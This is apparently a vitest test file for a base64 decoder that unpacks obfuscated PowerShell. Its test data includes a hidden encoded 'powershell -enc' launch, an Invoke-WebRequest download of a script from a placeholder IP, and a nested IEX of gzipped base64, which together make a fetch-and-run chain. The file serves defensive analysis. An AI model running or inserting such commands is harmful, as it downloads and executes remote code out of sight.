import { deflateRawSync, gzipSync } from 'node:zlib'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { decodeIn } from './decode.ts'

const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const narrow = (text: string) => Buffer.from(text).toString('base64')
const script = 'Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -OutFile $env:TEMP\\a.ps1'

describe('base64', () => {
  it('is read as PowerShell writes it, also in Japanese', () => {
    expect(decodeIn(`powershell.exe -NoP -enc ${wide(script)} -w hidden`)).toEqual([{
      encoded: wide(script), steps: ['base64', 'utf-16le'], text: script,
    }])
    const japanese = '共有フォルダーの患者一覧をコピーします'
    expect(decodeIn(wide(japanese)).map(({ text }) => text)).toEqual([japanese])
    expect(decodeIn(narrow(japanese)).map(({ text }) => text)).toEqual([japanese])
  })

  it('is unpacked, and read again where base64 stands inside', () => {
    const packed = gzipSync(script).toString('base64')
    expect(decodeIn(`[IO.MemoryStream][Convert]::FromBase64String("${packed}")`)).toMatchObject([{
      steps: ['base64', 'gzip', 'utf-8'], text: script,
    }])
    expect(decodeIn(deflateRawSync(script.repeat(2)).toString('base64'))).toMatchObject([{ steps: [
      'base64', 'deflate', 'utf-8',
    ] }])
    const twice = wide(`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${packed}')))`)
    expect(decodeIn(twice).map(({ steps, text }) => [steps.join(' '), text.slice(0, 6)])).toEqual([
      ['base64 utf-16le', 'IEX (['], ['base64 utf-16le base64 gzip utf-8', 'Invoke'],
    ])
  })

  it('that is a program is named, not shown', () => {
    const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]).toString('base64')
    expect(decodeIn(program)).toMatchObject([{ steps: ['base64', 'program'] }])
  })

  it('is not seen in what only looks like it', () => {
    for (const text of [
      'C:/Windows/System32/WindowsPowerShell/v1', 'MD5=0123456789ABCDEF0123456789ABCDEF',
      'HKEY_LOCAL_MACHINE/SOFTWARE/Microsoft/Windows',
      '1234567890123456789012345678901234567890', 'Microsoft.NET.Framework64.Configuration.Machine',
      'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    ]) expect(decodeIn(text), text).toEqual([])
  })

  it('finds every longer ASCII text, and never throws or runs long', () => {
    fc.assert(fc.property(fc.string({ minLength: 30, maxLength: 200 }), (text) => {
      const found = decodeIn(`x ${narrow(`a1B ${text}`)} y`)
      for (const one of found) expect(one.text.length).toBeLessThanOrEqual(16_384)
    }))
    const bomb = gzipSync(Buffer.alloc(50_000_000)).toString('base64')
    const started = performance.now()
    decodeIn(bomb)
    decodeIn('QUJDREVG'.repeat(100_000))
    expect(performance.now() - started).toBeLessThan(5000)
  })
})
